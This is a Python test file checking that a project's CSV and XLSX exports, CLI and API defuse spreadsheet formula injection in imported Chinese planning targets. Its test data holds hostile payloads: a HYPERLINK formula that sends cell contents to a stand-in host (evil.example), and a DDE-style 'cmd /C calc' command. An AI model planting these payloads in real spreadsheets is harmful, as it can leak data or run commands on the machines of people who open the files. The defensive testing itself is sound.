"""Exports are safe by construction (issue 17.2): a text cell beginning with = + - @, a tab or a
carriage return is inert in CSV (prefixed with ') and in XLSX (a string cell, never a formula);
numbers stay numbers. Checked on the shared writers and through the CLI and the API that use them."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from fastapi.testclient import TestClient

from zhibiao.cli import main
from zhibiao.export import csv_text, inert, xlsx_bytes
from zhibiao.store import Database
from zhibiao.ingest import ingest
from zhibiao.web.app import create_app

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]

PLAN = ("嘉善县人民政府关于下达2025年嘉善县国民经济和社会发展计划的通知\n\n现印发给你们。\n\n附件\n\n"
        "2025年主要目标\n\n序号\t指标名称\t2025年目标\n"
        "1\t=HYPERLINK(\"http://evil.example\",\"地区生产总值增长\")\t7%左右\n"
        "2\t@SUM(1+1)城镇调查失业率\t5%以内\n"
        "3\t+cmd|' /C calc'!A0居民人均可支配收入增长\t6%\n"
        "4\t-一般公共预算收入增长\t-5.6%\n")


def test_the_writers_make_formulas_inert_and_keep_numbers():
    rows = [{"name": h, "value": Decimal("-5.6"), "n": -3, "f": 2.5, "none": None} for h in HOSTILE]
    rows.append({"name": "地区生产总值", "value": Decimal("16.40"), "n": 0, "f": -0.5, "none": None})
    parsed = list(csv.reader(io.StringIO(csv_text(rows).lstrip("\ufeff"))))
    assert parsed[0] == ["name", "value", "n", "f", "none"]
    for h, row in zip(HOSTILE, parsed[1:]):
        assert row[0] == "'" + h  # inert, and the original text kept after the quote
        assert row[1:4] == ["-5.6", "-3", "2.5"]  # numbers are not prefixed
    assert parsed[-1][:2] == ["地区生产总值", "16.40"]

    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows)))
    ws = wb.active
    for r, h in enumerate(HOSTILE, start=2):
        cell = ws.cell(row=r, column=1)
        assert cell.data_type == "s" and cell.value == h  # a string, not a formula
        assert ws.cell(row=r, column=2).data_type == "n" and ws.cell(row=r, column=2).value == pytest.approx(-5.6)
    assert ws.cell(row=len(rows) + 1, column=1).value == "地区生产总值"
    # the raw sheet XML holds no formula element at all
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(rows))) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_inert_leaves_ordinary_text_alone():
    assert inert("地区生产总值增长7%") == "地区生产总值增长7%"
    assert inert("") == ""
    assert inert("=1") == "'=1"
    # a comparator alone and a signed number run nothing: a tool reading the CSV reads them as printed
    assert [inert(t) for t in ("=", "-2", "+3.5%", "-0.5")] == ["=", "-2", "+3.5%", "-0.5"]
    assert [inert(t) for t in ("=-2", "-2+3", "==", "-")] == ["'=-2", "'-2+3", "'==", "-"]


def test_xlsx_drops_characters_xml_cannot_carry():
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([{"name": "a\x00b\x1bc\x07"}])))
    assert wb.active["A2"].value == "abc"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("exports")
    (folder / "plan.txt").write_text(PLAN, encoding="utf-8")
    db = Database.open(folder / "x.db")
    summary = ingest(db, [folder / "plan.txt"])
    assert summary.count("new") == 1
    return db


def _names(db) -> list[str]:
    from zhibiao.track import Tracker

    return [r["name"] for r in Tracker(db).targets(region="嘉善县")]


def test_cli_export_csv_and_xlsx_are_inert(hostile_db, tmp_path):
    names = _names(hostile_db)
    assert any(n.startswith(("=", "@", "+", "-")) for n in names), names  # the document really carries them
    db = str(hostile_db.engine.url.database)
    out_csv, out_xlsx = tmp_path / "t.csv", tmp_path / "t.xlsx"
    assert main(["export", str(out_csv), "-f", "csv", "-r", "嘉善县", "--db", db]) == 0
    assert main(["export", str(out_xlsx), "-f", "xlsx", "-r", "嘉善县", "--db", db]) == 0
    rows = list(csv.DictReader(io.StringIO(out_csv.read_text("utf-8-sig"))))
    assert rows and all(not r["name"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
    assert {r["name"].lstrip("'") for r in rows} == set(names)
    ws = openpyxl.load_workbook(out_xlsx).active
    header = [c.value for c in ws[1]]
    name_col, value_col = header.index("name") + 1, header.index("value") + 1
    for r in range(2, ws.max_row + 1):
        assert ws.cell(row=r, column=name_col).data_type == "s"
        v = ws.cell(row=r, column=value_col)
        assert v.value is None or v.data_type == "n"  # numbers stay numbers
    assert {ws.cell(row=r, column=name_col).value for r in range(2, ws.max_row + 1)} == set(names)


def test_cli_csv_output_and_api_csv_are_inert(hostile_db, capsys):
    db = str(hostile_db.engine.url.database)
    assert main(["targets", "-r", "嘉善县", "-f", "csv", "--db", db]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(not r["name"].startswith(("=", "+", "-", "@")) for r in rows)
    client = TestClient(create_app(hostile_db))
    for url in ("/api/v1/targets?region=嘉善县&format=csv", "/api/v1/status?region=嘉善县&year=2025&format=csv"):
        r = client.get(url)
        assert r.status_code == 200, url
        got = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
        assert got and all(not row["name"].startswith(("=", "+", "-", "@")) for row in got), url
